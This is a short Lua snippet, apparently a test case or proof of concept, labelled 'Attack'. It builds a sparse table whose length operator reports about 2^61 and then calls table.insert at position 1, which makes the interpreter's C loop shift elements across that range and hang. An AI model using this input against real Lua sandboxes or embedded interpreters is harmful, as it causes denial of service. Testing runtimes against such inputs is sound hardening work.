-- Attack: a sparse table whose length operator reports about 2^61, then
-- table.insert at position 1, which shifts every element up in a C loop.
local t = { true }
for k = 0, 61 do t[(1 << k) + 1] = true; t[1 << k] = true end
table.insert(t, 1, "x")
